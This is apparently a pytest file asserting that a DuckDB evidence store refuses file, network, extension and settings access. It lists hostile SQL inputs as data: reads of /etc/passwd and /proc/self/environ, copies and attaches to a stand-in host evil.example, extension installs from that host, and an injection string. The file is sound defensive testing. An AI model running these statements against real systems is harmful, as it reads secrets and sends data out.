"""DuckDB as the store opens it: no statement reaches a file, the network, a setting or a program, whoever wrote it."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest

from evidence.store import Store

SET = {
    "enable_external_access": "false",
    "lock_configuration": "true",
    "allow_extension_repositories": "forbidden",
    "allow_community_extensions": "false",
    "allow_unsigned_extensions": "false",
    "allow_persistent_secrets": "false",
    "autoinstall_known_extensions": "false",
    "autoload_known_extensions": "false",
    "python_enable_replacements": "false",
    "max_expression_depth": "250",
    "max_execution_time": "300000",
    "max_temp_directory_size": "1.8 GiB",
    "memory_limit": "953.6 MiB",
    "threads": "2",
}
READERS = ("read_csv", "read_csv_auto", "read_json", "read_ndjson", "read_json_objects", "read_parquet", "read_text")
READERS += ("read_blob", "read_duckdb", "parquet_metadata", "parquet_schema", "sniff_csv", "glob")
FILES = [
    *("select * from READER('/etc/passwd')".replace("READER", reader) for reader in READERS),
    "select * from '/etc/passwd'",
    "select * from glob('/etc/*')",
    "select * from '/etc/*.csv'",
    "select * from read_text(['/proc/self/environ', '/etc/hostname'])",
    "select * from query('select * from read_text(''/etc/passwd'')')",
    "select * from query_table('/etc/passwd')",
    "create table stolen as from read_csv('/etc/passwd')",
    "copy item from '/etc/passwd'",
    "copy item to '{there}/stolen.csv'",
    "copy item to '{there}/stolen.parquet'",
    "copy (select 1) to '/dev/stdout'",
    "copy (select 1) to '{there}/parts' (format csv, partition_by (a))",
    "copy from database evidence to stolen",
    "export database '{there}/stolen'",
    "import database '{there}/stolen'",
    "attach '{there}/other.duckdb'",
    "attach '{there}/other.duckdb' (read_only)",
    "attach '{there}/other.sqlite' (type sqlite)",
    "attach 'host=127.0.0.1' (type postgres)",
]
NETWORK = [
    "select * from 'http://evil.example/x.csv'",
    "select * from read_csv('https://evil.example/x.csv')",
    "select * from read_parquet('s3://evil/x.parquet')",
    "select * from read_text('hf://datasets/x')",
    "select * from read_blob('gcs://evil/x')",
    "copy item to 'https://evil.example/x.csv'",
    "attach 'http://evil.example/x.duckdb'",
    "attach 'md:'",
    "attach 'ducklake:x'",
    "call start_ui()",
    "call start_ui_server()",
]
PROGRAMS = [
    *(f"{verb} {name}" for verb in ("install", "force install", "load") for name in ("httpfs", "sqlite", "postgres")),
    "install httpfs from community",
    "install httpfs from 'http://evil.example'",
    "load '{there}/x.duckdb_extension'",
    "update extensions",
    "select * from duckdb_extensions()",
    "select getenv('HOME')",
    "select * from variable_of_python",
]
SETTINGS = [
    *("set enable_external_access = true", "set lock_configuration = false", "set memory_limit = '99GB'"),
    *("set threads = 64", "set max_execution_time = '0'", "set max_expression_depth = 9000"),
    *("set global memory_limit = '99GB'", "set session max_execution_time = '0'", "reset memory_limit"),
    *("set python_enable_replacements = true", "set python_scan_all_frames = true", "reset max_execution_time"),
    *("set temp_directory = '/tmp'", "set extension_directory = '/tmp'", "set secret_directory = '/tmp'"),
    *("set home_directory = '/tmp'", "set allowed_directories = ['/']", "set allowed_paths = ['/etc/passwd']"),
    *("set log_query_path = '{there}/x'", "set profiling_output = '{there}/x'", "pragma memory_limit = '99GB'"),
    *("pragma enable_profiling", "pragma profiling_output = '{there}/x'", "pragma log_query_path = '{there}/x'"),
    "call enable_logging(storage = 'file', storage_config = {{'path': '{there}/x'}})",
    "call enable_logging()",
    "create persistent secret y (type s3, key_id 'x', secret 'y')",
]


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    store = Store(tmp_path_factory.mktemp("locked") / "home")
    yield store
    store.close()


@pytest.mark.parametrize("sql", [*FILES, *NETWORK, *PROGRAMS, *SETTINGS])
def test_a_statement_reaches_nothing_outside(store: Store, sql: str, tmp_path: Path) -> None:
    variable_of_python = store.frame("select 1 as a")
    assert len(variable_of_python) == 1
    with pytest.raises(duckdb.Error) as refused:
        store.rows(sql.format(there=tmp_path))
    assert "root:" not in str(refused.value)
    assert list(tmp_path.iterdir()) == [], "nothing was written"


def test_it_is_set_as_it_should_be(store: Store) -> None:
    rows = store.rows("select name, value from duckdb_settings()")
    assert {row["name"]: row["value"] for row in rows if row["name"] in SET} == SET


def test_what_is_sorted_on_disk_stays_in_the_home(store: Store) -> None:
    assert store.one("select current_setting('temp_directory') as place")["place"] == str(store.home / "spill")


def test_it_is_locked_again_after_it_was_made_again(store: Store) -> None:
    store.rebuild()
    test_it_is_set_as_it_should_be(store)


def test_values_are_values_and_never_part_of_a_statement(store: Store) -> None:
    hostile = "'; drop table item; --"
    assert store.one("select $text as said", text=hostile) == {"said": hostile}
    assert store.one("select count(*) as n from item") == {"n": 0}


def test_an_expression_of_any_depth_is_refused_and_not_climbed(store: Store) -> None:
    with pytest.raises(duckdb.Error, match="depth"):
        store.rows("select " + "(" * 400 + "1" + "+1)" * 400)
